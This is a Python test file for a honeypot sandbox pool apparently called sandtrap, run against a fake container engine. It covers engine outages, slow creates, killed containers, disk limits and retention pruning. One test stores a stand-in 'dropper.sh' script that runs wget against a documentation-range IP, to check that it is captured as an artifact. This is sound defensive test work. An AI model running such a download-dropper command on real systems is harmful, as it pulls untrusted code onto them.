"""The pool battery (tests/pool_battery.py) on the fake engine, plus what only the fake can stage:
failing and slow creates, an outage noticed only by a release, a container killed under its
session. Each test takes milliseconds; none of this is evidence that the real engine behaves."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from sandtrap.errors import EngineUnavailable, PoolExhausted
from sandtrap.sandbox.fake import FakeEngine
from sandtrap.sandbox.hardening import LABEL_LOG_HOSTNAME
from tests.pool_battery import (  # noqa: F401 - the battery's tests, collected here
    Backend,
    Sink,
    peer,
    sh,
    test_a_burst_beyond_the_warm_pool_waits_and_every_login_is_served,
    test_a_release_while_a_login_waits_freezes_it_and_stops_it_in_its_turn,
    test_concurrent_connections_of_one_source_share_one_sandbox,
    test_max_sandboxes_and_allocation_timeout,
    test_outage_members_are_rechecked_and_refill_resumes,
    test_release_stops_and_keeps_the_sandbox,
    test_restart_reconciles_and_retention_prunes,
    test_sticky_sources_share_and_get_their_sandbox_back,
    test_warms_up_to_its_size_and_refills_behind_an_allocation,
)

IMAGE = "sandtrap/fake-target:1"


@pytest.fixture
def engine() -> FakeEngine:
    return FakeEngine(image_labels={IMAGE: {LABEL_LOG_HOSTNAME: "build-host"}})


@pytest.fixture
def backend(engine: FakeEngine, tmp_path: Path) -> Backend:
    @asynccontextmanager
    async def outage() -> AsyncIterator[None]:
        engine.outage()
        try:
            yield
        finally:
            engine.restore()

    return Backend(
        engine=engine,
        sensor="test-fake",
        image=IMAGE,
        tmp_path=tmp_path,
        patience=2.0,
        allocate_timeout=0.2,
        health_interval=0.02,
        retry_delays=(0.01, 0.05),
        outage=outage,
    )


async def test_failing_creates_become_one_event_and_the_pool_recovers(
    backend: Backend, engine: FakeEngine
) -> None:
    engine.create_error = EngineUnavailable("create: engine unreachable: fake")
    sink = Sink()
    async with backend.pool(backend.config(), sink) as pool:
        async with asyncio.timeout(backend.patience):
            (failure,) = await sink.wait_for("sandbox.error")
        assert failure.operation == "create"
        with pytest.raises(PoolExhausted):
            await pool.allocate(peer(1))
        # Retries with the same message are counted, not reported again.
        assert len(sink.of("sandbox.error")) == 1
        assert pool.statistics().errors_total > 1
        assert not pool.statistics().engine_ok
        engine.create_error = None
        await backend.warm(pool)
        assert pool.statistics().idle == 2
        assert not engine.containers_by_id.keys() - await backend.pool_members()


async def test_slow_creates_time_the_allocation_out(backend: Backend, engine: FakeEngine) -> None:
    engine.create_delay = 10
    async with backend.pool(backend.config(pool={"size": 1}), Sink()) as pool:
        with pytest.raises(PoolExhausted):
            await pool.allocate(peer(1))
        # The warm member and one more for the login that waited: both still being created.
        assert pool.statistics().creating == 2
        assert pool.statistics().waiting == 0


async def test_members_from_before_an_outage_are_checked_before_use(
    backend: Backend, engine: FakeEngine
) -> None:
    """No health check runs here: only the release's failed stop tells the pool of the outage."""
    sink = Sink()
    config = backend.config(pool={"size": 1, "health_interval_seconds": 3600})
    async with backend.pool(config, sink) as pool:
        first = await pool.allocate(peer(1))
        await backend.warm(pool)
        (before,) = await backend.pool_members()
        engine.outage()
        await pool.release(first, peer(1))
        # Reported once each; the diff and the retention pass (the pool's own task, asked for
        # by the release) after the stop fail the same way.
        async with asyncio.timeout(backend.patience):
            await sink.wait_for("sandbox.error", 3)
        assert [e.operation for e in sink.of("sandbox.error")] == ["stop", "diff", "prune"]
        engine.restore()
        sandbox = await pool.allocate(peer(2))
        assert sandbox.id != before
        assert before not in engine.containers_by_id  # found dead on the check, removed
        assert await sh(sandbox, "echo alive") == (0, "alive\n")


async def test_a_container_killed_in_use_ends_its_execs(
    backend: Backend, engine: FakeEngine
) -> None:
    sink = Sink()
    config = backend.config(pool={"size": 1}, sandbox={"disk_check_interval_seconds": 0.01})
    async with backend.pool(config, sink) as pool:
        sandbox = await pool.allocate(peer(1))
        stream = await sandbox.exec(["/bin/bash"], user="root", tty=True)
        # As under gVisor: the container is gone but its exec hangs until the watcher ends it.
        engine.kill(sandbox.id, oom_killed=True, end_execs=False)
        async with asyncio.timeout(backend.patience):
            (died,) = await sink.wait_for("sandbox.died")
            while (await stream.read()) is not None:
                pass
        assert (died.container_id, died.exit_code, died.oom_killed) == (sandbox.id, 137, True)
        assert await stream.wait() == 255
        await stream.close()
        await pool.release(sandbox, peer(1))


async def test_a_sandbox_over_its_disk_budget_is_stopped(
    backend: Backend, engine: FakeEngine
) -> None:
    sink = Sink()
    config = backend.config(
        pool={"size": 1}, sandbox={"disk_limit_mb": 16, "disk_check_interval_seconds": 0.01}
    )
    payload = b"#!/bin/sh\nwget http://203.0.113.1/x\n"
    async with backend.pool(config, sink) as pool:
        sandbox = await pool.allocate(peer(9))
        engine.write_file(sandbox.id, "/tmp/dropper.sh", payload)
        engine.container(sandbox.id).size_rw += 17 * 1024 * 1024
        async with asyncio.timeout(backend.patience):
            (exceeded,) = await sink.wait_for("sandbox.disk_exceeded")
            while engine.container(sandbox.id).running:  # the watcher stops it right after
                await asyncio.sleep(0)
        assert (exceeded.limit_mb, exceeded.size_mb) == (16, 17.0)
        await pool.release(sandbox, peer(9))
        (diff,) = sink.of("sandbox.diff")
        assert diff.changes == [{"path": "/tmp/dropper.sh", "kind": "added"}]
        (artifact,) = sink.of("sandbox.artifact")
        assert Path(artifact.artifact).read_bytes() == payload


async def test_retention_inspects_each_kept_sandbox_once_and_coalesces_after_releases(
    backend: Backend, engine: FakeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A burst of releases must not make the engine size every kept sandbox once per release
    (that stalled sandbox creation in a burst of 100): stopped sandboxes are inspected once."""
    inspected: list[str] = []
    real_inspect = engine.inspect

    async def counting_inspect(container_id: str, size: bool = False) -> dict[str, object]:
        if size:
            inspected.append(container_id)
        return await real_inspect(container_id, size=size)

    monkeypatch.setattr(engine, "inspect", counting_inspect)
    sink = Sink()
    async with backend.pool(backend.config(pool={"size": 1, "max_sandboxes": 8}), sink) as pool:
        boxes = [await pool.allocate(peer(n)) for n in range(1, 5)]
        for n, box in enumerate(boxes, 1):
            await pool.release(box, peer(n))
        await pool.prune()
        await pool.prune()
        assert sorted(inspected) == sorted(box.id for box in boxes)


async def test_the_grown_pool_shrinks_back_to_its_size_once_arrivals_are_quiet(
    backend: Backend,
) -> None:
    config = backend.config(
        pool={"size": 1, "max_warm": 3, "max_sandboxes": 8, "grow_window_seconds": 0.2}
    )
    async with backend.pool(config, Sink()) as pool:
        await backend.warm(pool)
        peers = [peer(n) for n in range(1, 6)]
        boxes = await asyncio.gather(*(pool.allocate(p) for p in peers))
        await backend.warm(pool, 3)
        for box, p in zip(boxes, peers, strict=True):
            await pool.release(box, p)
        # The window empties, the health check trims the surplus down to size.
        async with asyncio.timeout(backend.patience):
            while pool.statistics().idle > 1:
                await asyncio.sleep(backend.health_interval)
        assert pool.statistics().target == 1
        assert len(await backend.pool_members()) == 1


async def test_retention_never_removes_a_sandbox_whose_diff_is_still_to_run(
    backend: Backend, engine: FakeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a burst, diffs wait while logins wait; a prune meanwhile (kept sandboxes over
    retention.max_count) must not remove the stopped sandboxes whose diffs are pending."""
    diffs_may_run = asyncio.Event()
    real_diff = engine.diff

    async def slow_diff(container_id: str) -> list[dict[str, object]]:
        await diffs_may_run.wait()
        return await real_diff(container_id)

    monkeypatch.setattr(engine, "diff", slow_diff)
    sink = Sink()
    config = backend.config(pool={"size": 1, "max_sandboxes": 8}, retention={"max_count": 1})
    async with backend.pool(config, sink) as pool:
        boxes = [await pool.allocate(peer(n)) for n in range(1, 4)]
        releases = [
            asyncio.ensure_future(pool.release(box, peer(n))) for n, box in enumerate(boxes, 1)
        ]
        async with asyncio.timeout(backend.patience):
            while len([c for c in await engine.containers() if c["State"] == "exited"]) < 3:
                await asyncio.sleep(0.01)
        assert await pool.prune() == []  # all three held: stopped, diff pending
        diffs_may_run.set()
        await asyncio.gather(*releases)
        await pool.prune()  # (or the pool's own coalesced prune after the releases)
        exited = [c for c in await engine.containers() if c["State"] == "exited"]
        assert len(exited) == 1  # now over max_count: the two oldest went
    diffs = {e.container_id for e in sink.events if e.eventid == "sandbox.diff"}
    assert diffs == {box.id for box in boxes}
    assert not [e for e in sink.events if e.eventid == "sandbox.failure"]
